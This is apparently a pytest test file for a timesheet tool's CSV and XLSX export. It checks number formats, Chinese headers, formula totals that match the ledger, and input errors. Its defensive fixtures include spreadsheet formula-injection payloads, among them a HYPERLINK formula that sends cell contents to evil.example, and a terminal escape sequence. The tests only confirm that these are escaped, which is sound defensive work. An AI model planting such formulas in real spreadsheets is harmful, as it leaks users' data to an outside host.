"""`sowtrack export entries|summary|timesheet --format csv|xlsx` (issue 15, spreadsheets):
typed cells, number formats, frozen header, Chinese headers, totals as formulas whose
cells add up to the ledger's totals (`report summary --json`), formula injection refused
in both formats, bad input as one line."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime
from decimal import Decimal
from fractions import Fraction
from pathlib import Path

import pytest
from openpyxl import load_workbook

from storage.services import Ledger
from tui.cli import main

#: notes a spreadsheet would run as formulas if they were not guarded
HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@x",
           "=1+1", "普通备注 plain")
END = "2026-05-29"  # the example SOW's last day: the summary as of then counts every entry


@pytest.fixture(autouse=True)
def _clean_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("SOWTRACK_USER", "SOWTRACK_DB", "SOWTRACK_PROJECT"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("SOWTRACK_TODAY", "2026-03-20")


def _log(led: Ledger) -> None:
    """Entries on several grades, with minutes that do not divide evenly (6, 20, 50
    minutes: PD with more than 3 decimals, hours with more than 2), a Saturday
    (overtime), a blocker, and notes that look like formulas."""
    rows = [("2026-03-02", "zhang.wei", "T1", "7.5"), ("2026-03-02", "chen.jing", "T2", "0.1"),
            ("2026-03-03", "liu.yang", "T2", "0:20"), ("2026-03-03", "wang.fang", "T3", "9"),
            ("2026-03-04", "chen.jing", "T2", "0:50"), ("2026-03-07", "liu.yang", "T4", "3"),
            ("2026-03-09", "zhang.wei", "T1", "0.1"), ("2026-03-10", "wang.fang", "T1", "0.1")]
    for i, (on, person, task, hours) in enumerate(rows):
        led.log(task, hours, on=on, person=person, note=HOSTILE[i % len(HOSTILE)])
    led.add_blocker("client VPN down", "client", on="2026-03-04")


def _run(capsys: pytest.CaptureFixture[str], url: str, *argv: str) -> tuple[int, str, str]:
    capsys.readouterr()
    rc = main(["--db", url, "--as", "zhang.wei", *argv])
    out, err = capsys.readouterr()
    return rc, out, err


def _summary(capsys: pytest.CaptureFixture[str], url: str) -> dict:
    rc, out, err = _run(capsys, url, "report", "summary", "--as-of", END, "--json")
    assert rc == 0, err
    return json.loads(out)


def _column(ws, letter: str, first: int, last: int) -> Decimal:
    return sum((Decimal(str(ws[f"{letter}{r}"].value or 0)) for r in range(first, last + 1)),
               Decimal(0))


def _dec(value: float) -> Decimal:
    return Decimal(str(value))


# ------------------------------------------------------------------------------- xlsx


def test_entries_xlsx_typed_frozen_chinese_and_totals_as_formulas(
        example: Ledger, db_url: str, tmp_path: Path, capsys) -> None:
    _log(example)
    out = tmp_path / "entries.xlsx"
    rc, stdout, err = _run(capsys, db_url, "export", "entries", "--out", str(out))
    assert (rc, err) == (0, "")
    assert stdout.strip() == f"wrote {out} (xlsx, 8 rows)"
    book = load_workbook(out)
    ws = book.active
    assert ws.title == book.properties.title == "工时明细"
    assert ws.freeze_panes == "A2"
    header = [c.value for c in ws[1]]
    assert header == ["日期", "账号", "姓名", "职级", "任务", "工时（小时）", "人天", "备注",
                      "工时编号"]
    assert all(c.font.b for c in ws[1])
    first = ws[2]
    assert isinstance(first[0].value, datetime) and first[0].value.date() == date(2026, 3, 2)
    assert first[0].number_format == "yyyy-mm-dd"
    assert (first[1].value, first[2].value, first[3].value) == ("zhang.wei", "张伟", "资深技术专家")
    assert isinstance(first[5].value, float | int) and first[5].number_format == "0.00"
    assert isinstance(first[6].value, float | int) and first[6].number_format == "0.000"
    assert isinstance(first[8].value, int)
    # the totals row: formulas over the rows above, and those cells add up to the ledger
    assert ws["A10"].value == "合计" and ws["A10"].font.b
    assert ws["F10"].value == "=SUM(F2:F9)" and ws["G10"].value == "=SUM(G2:G9)"
    assert ws["G10"].number_format == "0.000"
    ledger = _summary(capsys, db_url)
    assert _column(ws, "G", 2, 9) == _dec(ledger["consumed_pd"])
    minutes = 450 + 6 + 20 + 540 + 50 + 180 + 6 + 6
    assert minutes == 1258  # 20.9667 hours: the cells foot to the total rounded
    assert _column(ws, "F", 2, 9) == Decimal("20.97")
    widths = {k: d.width for k, d in ws.column_dimensions.items()}
    assert widths["H"] > widths["A"] > 8  # the notes are the widest column


def test_xlsx_text_that_looks_like_a_formula_is_stored_as_text(
        example: Ledger, db_url: str, tmp_path: Path, capsys) -> None:
    _log(example)
    out = tmp_path / "entries.xlsx"
    assert _run(capsys, db_url, "export", "entries", "--out", str(out))[0] == 0
    ws = load_workbook(out).active
    notes = {ws[f"H{r}"].value: ws[f"H{r}"] for r in range(2, 10)}
    for text in HOSTILE:
        cell = notes[text]  # exactly the note, no quote added to the data
        assert cell.data_type == "s", text
    for text in HOSTILE[:5]:
        assert notes[text].quotePrefix, text
    assert not notes["普通备注 plain"].quotePrefix
    # and no cell outside the totals row is a formula
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == ["F10", "G10"]


def test_summary_xlsx_adds_up_to_report_summary(example: Ledger, db_url: str,
                                                tmp_path: Path, capsys) -> None:
    _log(example)
    out = tmp_path / "summary.xlsx"
    rc, _, err = _run(capsys, db_url, "export", "summary", "--as-of", END, "--out", str(out))
    assert (rc, err) == (0, "")
    ledger = _summary(capsys, db_url)
    ws = load_workbook(out).active
    assert [c.value for c in ws[1]] == ["职级", "预算人天", "已消耗人天", "剩余人天",
                                        "人天单价（CNY）", "预算金额（CNY）", "已消耗金额（CNY）"]
    n = len(ledger["by_grade"])
    assert n == 4
    total = n + 2
    assert ws[f"A{total}"].value == "合计"
    for letter in "BCDFG":
        assert ws[f"{letter}{total}"].value == f"=SUM({letter}2:{letter}{n + 1})"
    assert ws[f"E{total}"].value is None  # a day rate is not summed
    assert _column(ws, "B", 2, n + 1) == _dec(ledger["budget_pd"])
    assert _column(ws, "C", 2, n + 1) == _dec(ledger["consumed_pd"])
    assert _column(ws, "D", 2, n + 1) == _dec(ledger["remaining_pd"])
    assert _column(ws, "F", 2, n + 1) == _dec(ledger["cost"]["budget"])
    assert _column(ws, "G", 2, n + 1) == _dec(ledger["cost"]["consumed"])
    # per grade too, and in the grade's title, never its key
    by_title = {ws[f"A{r}"].value: r for r in range(2, n + 2)}
    row = by_title["高级工程师"]
    assert _dec(ws[f"C{row}"].value) == _dec(ledger["by_grade"]["senior"]["consumed_pd"])
    assert ws[f"E{row}"].value == 2800
    for letter in "EFG":
        assert "¥" in ws[f"{letter}{row}"].number_format
        assert "#,##0.00" in ws[f"{letter}{row}"].number_format
    assert ws[f"B{row}"].number_format == "0.000"
    notes = {ws[f"A{r}"].value: ws[f"B{r}"] for r in range(total + 2, total + 6)}
    assert notes["报告日期"].value.date() == date(2026, 5, 29)
    assert _dec(notes["加班人天（已计入消耗）"].value) == _dec(ledger["overtime_pd"]) > 0
    assert notes["阻塞损失工作日（甲方）"].value == ledger["blocked_days"]["client"] > 0
    assert notes["阻塞损失工作日（乙方）"].value == ledger["blocked_days"]["vendor"]


def test_timesheet_xlsx_is_the_printed_timesheet(example: Ledger, db_url: str,
                                                 tmp_path: Path, capsys) -> None:
    from model.rules import round_pd
    from model.sheet_timesheet import hours_grid
    from model.sheets import SheetRequest
    from storage.sheets import build_sheet

    _log(example)
    out = tmp_path / "march.xlsx"
    rc, _, err = _run(capsys, db_url, "export", "timesheet", "--from", "2026-03-01",
                      "--to", "2026-03-10", "--out", str(out), "--lang", "en")
    assert (rc, err) == (0, "")
    ws = load_workbook(out).active
    assert ws.freeze_panes == "C2"  # the names stay in view
    header = [c.value for c in ws[1]]
    assert header[:4] == ["Name", "ID", "Grade", "2026-03-01 Su"]
    assert header[-3:] == ["Total (hours)", "of which overtime", "Total (PD)"]
    # the PDF's own figures: same model view, same footed grid
    sheet = build_sheet(example, SheetRequest("timesheet", date(2026, 3, 1), date(2026, 3, 10),
                                              language="en"))
    section = sheet.data.sections[0]
    grid = hours_grid(section, sheet.data.days)
    people = [r.key for r in section.rows]
    assert [ws.cell(row=i + 2, column=2).value for i in range(len(people))] == people
    sub = len(header) - 2  # the subtotal's column (1-based)
    for i in range(len(people)):
        r = i + 2
        cells = [ws.cell(row=r, column=c).value for c in range(4, 14)]
        assert [_dec(v) if v is not None else Decimal(0) for v in cells] == grid.cells[i]
        assert ws.cell(row=r, column=sub).value == f"=SUM(D{r}:M{r})"
        assert sum((_dec(v) for v in cells if v is not None), Decimal(0)) == grid.row_totals[i]
    total_row = len(people) + 2
    assert ws.cell(row=total_row, column=1).value == "Total"
    assert ws.cell(row=total_row, column=sub + 2).value == f"=SUM(P2:P{total_row - 1})"
    pd_total = _column(ws, "P", 2, total_row - 1)
    assert pd_total == round_pd(Fraction(sum(r.total_minutes for r in section.rows), 480))


# -------------------------------------------------------------------------------- CSV


def test_entries_csv_bom_escaped_notes_and_numbers(example: Ledger, db_url: str,
                                                   tmp_path: Path, capsys) -> None:
    _log(example)
    out = tmp_path / "entries.csv"
    rc, _, err = _run(capsys, db_url, "export", "entries", "--out", str(out), "--lang", "en",
                      "--person", "chen.jing", "--from", "2026-03-02", "--to", "2026-03-04")
    assert (rc, err) == (0, "")
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["Date", "ID", "Name", "Grade", "Task", "Hours", "PD", "Note", "Entry id"]
    body = rows[1:-1]
    assert [r[1] for r in body] == ["chen.jing", "chen.jing"]
    assert [r[5] for r in body] == ["0.10", "0.83"]  # 6 and 50 minutes, footed: 0.93
    assert [r[6] for r in body] == ["0.013", "0.104"]  # 56/480 = 0.1167 -> 0.117
    assert rows[-1][:7] == ["Total", "", "", "", "", "0.93", "0.117"]
    assert [r[7] for r in body] == ["'+1", "'=1+1"]  # OWASP: a leading quote


def test_every_formula_start_is_escaped_in_csv(example: Ledger, db_url: str,
                                               tmp_path: Path, capsys) -> None:
    _log(example)
    out = tmp_path / "entries.csv"
    assert _run(capsys, db_url, "export", "entries", "--out", str(out))[0] == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    notes = {r[7] for r in rows[1:-1]}
    assert notes == {"'" + HOSTILE[0], "'+1", "'-2", "'@x", "'=1+1", "普通备注 plain"}
    assert rows[0][1] == "账号"
    # numbers stay numbers: a negative remaining PD in the summary is not escaped
    for day in ("2026-03-11", "2026-03-12", "2026-03-13", "2026-03-16", "2026-03-17",
                "2026-03-18", "2026-03-19", "2026-03-20"):
        example.log("T1", "8", on=day, person="zhang.wei")  # 8.95 PD of a budget of 8
    out2 = tmp_path / "summary.csv"
    assert _run(capsys, db_url, "export", "summary", "--out", str(out2))[0] == 0
    rows = list(csv.reader(io.StringIO(out2.read_text(encoding="utf-8-sig"))))
    expert = next(r for r in rows if r[0] == "资深技术专家")
    assert expert[1:4] == ["8.000", "8.950", "-0.950"]
    assert not any(cell.startswith("'") for row in rows for cell in row)


def test_summary_csv_adds_up_to_report_summary(example: Ledger, db_url: str,
                                               tmp_path: Path, capsys) -> None:
    _log(example)
    out = tmp_path / "summary.csv"
    assert _run(capsys, db_url, "export", "summary", "--as-of", END, "--out", str(out))[0] == 0
    ledger = _summary(capsys, db_url)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    n = len(ledger["by_grade"])
    grades, total = rows[1:n + 1], rows[n + 1]
    for j, key in ((1, "budget_pd"), (2, "consumed_pd"), (3, "remaining_pd")):
        assert sum(Decimal(r[j]) for r in grades) == Decimal(total[j]) == _dec(ledger[key])
    for j, key in ((5, "budget"), (6, "consumed")):
        assert sum(Decimal(r[j]) for r in grades) == Decimal(total[j]) \
            == _dec(ledger["cost"][key])
    assert rows[n + 2] == []
    assert rows[n + 4] == ["加班人天（已计入消耗）", f"{Decimal(str(ledger['overtime_pd'])):.3f}"]


# ------------------------------------------------------------------------ bad input


@pytest.fixture
def sqlite_url(sqlite_example: Ledger) -> str:
    return sqlite_example.engine.url.render_as_string(hide_password=False)


@pytest.mark.parametrize(("argv", "line"), [
    (["entries", "--format", "csv", "--out", "{d}/x.xlsx"],
     "error: --format: csv does not match --out {d}/x.xlsx (a .xlsx file); name a .csv file "
     "or set --format to xlsx"),
    (["entries", "--out", "{d}/x.pdf"],
     "error: --format: `export entries` is a spreadsheet: csv or xlsx (or name a .csv or "
     ".xlsx file)"),
    (["summary", "--out", "{d}/x"],
     "error: --format: `export summary` is a spreadsheet: csv or xlsx (or name a .csv or "
     ".xlsx file)"),
    (["sow", "--format", "csv", "--out", "{d}/x.csv"],
     "error: --format: `export sow` is written as TOML; csv and xlsx are for entries, summary, "
     "timesheet"),
    (["acceptance", "--out", "{d}/x.xlsx", "--format", "xlsx"],
     "error: --format: `export acceptance` is written as a PDF; csv and xlsx are for entries, "
     "summary, timesheet"),
    (["summary", "--out", "{d}/x.csv", "--from", "2026-03-01"],
     "error: --from: does not apply to a spreadsheet of `export summary` (only to entries, "
     "timesheet)"),
    (["entries", "--out", "{d}/x.csv", "--as-of", "2026-03-01"],
     "error: --as-of: does not apply to a spreadsheet of `export entries` (only to summary)"),
    (["timesheet", "--out", "{d}/x.csv", "--from", "2026-03-01", "--to", "2026-03-31",
      "--per-person"],
     "error: --per-person: does not apply to a spreadsheet of `export timesheet`"),
    (["timesheet", "--out", "{d}/x.xlsx"], "error: --from/--to: a timesheet needs its period"),
    (["entries", "--out", "{d}/x.csv", "--from", "2026-02-30"],
     "error: --from: '2026-02-30' is not a date (YYYY-MM-DD)"),
    (["entries", "--out", "{d}/x.csv", "--from", "2026-03-10", "--to", "2026-03-01"],
     "error: --to: 2026-03-01 is before --from 2026-03-10"),
    (["entries", "--out", "{d}/x.csv", "--lang", "fr"],
     "error: --lang: 'fr' is not one of zh, en"),
    (["entries", "--out", "{d}/x.csv", "--person", "nobody"],
     "error: --person: no person 'nobody' in CLAIMS-AGENT-2026"),
    (["entries", "--out", "{d}/missing/x.csv"],
     "error: --out: the folder {d}/missing does not exist"),
])
def test_bad_input_is_one_line_and_writes_nothing(sqlite_url: str, tmp_path: Path, capsys,
                                                  argv: list[str], line: str) -> None:
    argv = [a.replace("{d}", str(tmp_path)) for a in argv]
    before = set(tmp_path.iterdir())
    rc, out, err = _run(capsys, sqlite_url, "export", *argv)
    assert (rc, out) == (1, "")
    assert err.splitlines() == [line.replace("{d}", str(tmp_path))]
    assert set(tmp_path.iterdir()) == before


def test_an_existing_file_is_kept_unless_force(sqlite_url: str, tmp_path: Path,
                                               capsys) -> None:
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "summary.xlsx"
    out.write_bytes(b"finance's own workbook")
    rc, _, err = _run(capsys, sqlite_url, "export", "summary", "--out", str(out))
    assert rc == 1
    assert err.splitlines() == [f"error: --out: {out} exists; add --force to overwrite it"]
    assert out.read_bytes() == b"finance's own workbook"
    rc, _, err = _run(capsys, sqlite_url, "export", "summary", "--out", str(out), "--force")
    assert (rc, err) == (0, "")
    assert load_workbook(out).active["A1"].value == "职级"
    assert sorted(p.name for p in out.parent.iterdir()) == ["summary.xlsx"]  # no temp file


def test_the_ledger_itself_is_never_an_output(sqlite_example: Ledger, sqlite_url: str,
                                              capsys) -> None:
    db = Path(sqlite_example.engine.url.database)
    before = db.read_bytes()
    rc, _, err = _run(capsys, sqlite_url, "export", "entries", "--format", "csv",
                      "--out", str(db), "--force")
    assert rc == 1 and "is the ledger itself" in err
    assert db.read_bytes() == before


def test_the_suffix_decides_and_any_case_counts(sqlite_url: str, tmp_path: Path,
                                                capsys) -> None:
    out = tmp_path / "S.CSV"
    assert _run(capsys, sqlite_url, "export", "summary", "--out", str(out))[0] == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    txt = tmp_path / "s.txt"  # an unknown suffix takes the format given
    assert _run(capsys, sqlite_url, "export", "summary", "--out", str(txt),
                "--format", "xlsx")[0] == 0
    assert load_workbook(io.BytesIO(txt.read_bytes())).active["A1"].value == "职级"


def test_a_control_character_an_older_ledger_holds_is_shown_not_written(
        sqlite_example: Ledger, sqlite_url: str, tmp_path: Path, capsys) -> None:
    """The ledger refuses control characters in user text; a plain SQL edit (or an older
    ledger) may still hold one: the spreadsheet shows its symbol, and an XLSX file (whose
    XML cannot hold most of them) is still written."""
    import sqlite3

    entry = sqlite_example.log("T1", "8", on="2026-03-02", note="ok")
    conn = sqlite3.connect(sqlite_example.engine.url.database)
    with conn:
        conn.execute("UPDATE time_entry SET note = ? WHERE id = ?",
                     ("\tsum\x1b[2J\x07", entry.id))
    conn.close()
    xlsx, csv_out = tmp_path / "e.xlsx", tmp_path / "e.csv"
    assert _run(capsys, sqlite_url, "export", "entries", "--out", str(xlsx))[0] == 0
    assert _run(capsys, sqlite_url, "export", "entries", "--out", str(csv_out))[0] == 0
    assert load_workbook(xlsx).active["H2"].value == "␉sum␛[2J␇"
    rows = list(csv.reader(io.StringIO(csv_out.read_text(encoding="utf-8-sig"))))
    assert rows[1][7] == "␉sum␛[2J␇"


def test_an_xlsx_sheet_holds_at_most_excels_rows() -> None:
    from model.errors import FieldError
    from model.spreadsheet import XLSX_MAX_ROWS, Column, Kind, Table, check_fits

    def table(n: int) -> Table:
        return Table("t", (Column("n", Kind.INT, total=True),), ((1,),) * n, "total")

    check_fits(table(XLSX_MAX_ROWS - 2), "xlsx")  # header + rows + totals: the last row
    with pytest.raises(FieldError) as refused:
        check_fits(table(XLSX_MAX_ROWS - 1), "xlsx")
    assert refused.value.field == "format"
    assert str(refused.value).startswith("format: 1,048,575 rows do not fit in one XLSX "
                                         "sheet (at most 1,048,576 rows")
    check_fits(table(XLSX_MAX_ROWS), "csv")  # a CSV file has no such limit


def test_csv_totals_keep_their_columns_places_when_nothing_is_summed(
        example: Ledger, db_url: str, tmp_path: Path, capsys) -> None:
    # an empty period's totals (and a timesheet day nobody worked) were written "0",
    # not "0.00" / "0.000" as every other cell of their column
    out = tmp_path / "none.csv"
    rc, _, err = _run(capsys, db_url, "export", "entries", "--out", str(out), "--lang", "en",
                      "--from", "2030-01-01")
    assert (rc, err) == (0, "")
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert rows[1] == ["Total", "", "", "", "", "0.00", "0.000", "", ""]


def test_an_xlsx_text_cell_is_cut_to_what_excel_holds_and_says_so(
        example: Ledger, db_url: str, tmp_path: Path, capsys) -> None:
    # the ledger takes a note of any length; Excel holds at most 32,767 characters in a
    # cell and reports a longer one as unreadable content: the xlsx cuts it, with a mark
    # (the CSV keeps it whole)
    from model.spreadsheet import XLSX_MAX_CELL

    note = "长" * 20000 + "x" * 20000
    example.log("T1", "1", on="2026-03-02", person="zhang.wei", note=note)
    out = tmp_path / "long.xlsx"
    assert _run(capsys, db_url, "export", "entries", "--out", str(out))[0] == 0
    cell = load_workbook(out).active["H2"].value
    assert len(cell) == XLSX_MAX_CELL == 32767
    assert cell == note[:32766] + "…"
    csv_out = tmp_path / "long.csv"
    assert _run(capsys, db_url, "export", "entries", "--out", str(csv_out))[0] == 0
    rows = list(csv.reader(io.StringIO(csv_out.read_text(encoding="utf-8-sig"))))
    assert rows[1][7] == note


def test_a_timesheet_spreadsheet_of_decades_is_refused_before_the_ledger_is_read(
        example: Ledger, db_url: str, tmp_path: Path, capsys) -> None:
    # one column a day, footed both ways: --from 0026-03-01 (a typo) made a grid of
    # 730,000 days that took every gigabyte of the machine; three years is the limit
    from model.spreadsheet import MAX_TIMESHEET_DAYS

    assert MAX_TIMESHEET_DAYS == 1096
    out = tmp_path / "decades.csv"
    rc, _, err = _run(capsys, db_url, "export", "timesheet", "--from", "2026-03-01",
                      "--to", "2029-03-01", "--out", str(out))
    assert rc == 1
    assert err.strip() == ("error: --to: 2026-03-01..2029-03-01 is 1,097 days; a timesheet "
                           "spreadsheet has a column a day, at most 1,096 (three years): "
                           "choose a shorter period, or export entries")
    assert not out.exists()
    rc, _, err = _run(capsys, db_url, "export", "timesheet", "--from", "2026-03-01",
                      "--to", "2029-02-28", "--out", str(out))
    assert (rc, err) == (0, "")
